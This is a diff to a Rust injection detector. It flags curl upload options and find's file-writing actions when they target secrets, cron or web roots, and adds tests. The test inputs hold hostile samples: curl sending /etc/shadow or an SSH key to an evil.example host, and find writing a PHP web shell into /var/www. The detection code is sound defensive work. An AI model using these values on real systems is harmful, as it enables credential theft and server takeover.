@@ -735,7 +735,35 @@ fn file_upload_option(name: &[u8], v: &[u8], after: usize) -> bool {
         return false;
     }
     let path = option_value(v, after, 128, path_byte);
-    system_secret(path) && memchr::memmem::find(&v[after..], b"://").is_some()
+    // The URL may come before the option too (`http://x --upload-file /etc/passwd`): the
+    // application put its URL first and the value appends the option.
+    system_secret(path) && memchr::memmem::find(v, b"://").is_some()
+}
+
+/// find's `-fprint FILE`, `-fprint0`, `-fprintf FILE FORMAT`, `-fls FILE`: the actions that
+/// write the listing (with `-fprintf`, text the value chooses) to a file the value names.
+/// Given a path to a system file, a server-side script or anything under a web root, the
+/// value plants a file the server then serves or trusts. No other tool spells these options;
+/// a bare name (`-fprint out.txt`) writes in the working directory and stays quiet.
+fn find_write_action(name: &[u8], v: &[u8], after: usize) -> bool {
+    if !matches!(name, b"fprint" | b"fprint0" | b"fprintf" | b"fls")
+        || !matches!(v.get(after), Some(b' ' | b'\t' | b'+'))
+    {
+        return false;
+    }
+    let path = option_value(v, after, 256, path_byte);
+    system_write_target(path) || script_in_directory(path) || in_web_root(path)
+}
+
+/// A path under a directory web servers serve from (`/var/www/`, `/srv/www/`, `htdocs`,
+/// `public_html`, `wwwroot`, nginx's `/usr/share/nginx/html/`): a file written there is
+/// served, and with a script extension run, at the next request.
+pub(super) fn in_web_root(path: &[u8]) -> bool {
+    const ROOTS: &[&[u8]] = &[b"/var/www/", b"/srv/www/", b"/usr/share/nginx/html/"];
+    const DIRS: &[&[u8]] = &[b"/htdocs/", b"/public_html/", b"/wwwroot/"];
+    (ROOTS.iter().any(|r| path.starts_with(r))
+        || DIRS.iter().any(|d| memchr::memmem::find(path, d).is_some()))
+        && !super::last_segment(path).is_empty()
 }
 
 /// `-K /tmp/evil.conf`, `-F /tmp/evil_config`, `--rcfile=/dev/shm/x.rc`: an option handed a
@@ -1189,6 +1217,7 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
     if script_output_option(name, v, after)
         || scratch_config_option(v, after)
         || perl_config(name, v, after)
+        || find_write_action(name, v, after)
     {
         return true;
     }
@@ -1218,6 +1247,8 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
         b"d" => secret_upload(v, after),
         // curl's `-F 'f=@config.php'`: upload a local file as a form part.
         b"F" => form_file_upload(v, after),
+        // curl's `-T /etc/passwd` (`--upload-file`): send a system secret to the URL.
+        b"T" => file_upload_option(b"upload-file", v, after),
         // gcc's `-Wl,-plugin=/tmp/p.so` (the linker loads the shared object and runs its
         // code) and `-fplugin=/tmp/p.so` (the compiler does).
         [b'W', b'l'] if v.get(after) == Some(&b',') => linker_plugin(v, after + 1),
@@ -1775,6 +1806,33 @@ mod tests {
             "set -config to your settings file",
         ] {
             assert!(!option_injection(v.as_bytes()), "{v}");
+        }
+    }
+
+    /// Round 34: options that read or write a file the value chooses, with no shell syntax.
+    #[test]
+    fn file_choosing_options() {
+        for v in [
+            "http://x --upload-file /etc/passwd",
+            "https://a.example/u -T /etc/shadow",
+            "-T /root/.ssh/id_rsa ftp://evil.example/",
+            "/ -fprint /var/www/html/x",
+            "/tmp -fprintf /var/www/html/s.php '<?php system($_GET[c]); ?>'",
+            "/ -fls /etc/cron.d/x",
+            ". -fprint0 /srv/www/site/list",
+        ] {
+            assert!(injects(v), "{v}");
+        }
+        for v in [
+            "--upload-file report.pdf http://x",
+            "-T notes.txt https://share.example/",
+            "--upload-file /etc/passwd",
+            ". -fprint out.txt",
+            "-fprint is a find action",
+            "http://x -o page.html",
+            "http://x -o /tmp/page.html",
+        ] {
+            assert!(!injects(v), "{v}");
         }
     }
 
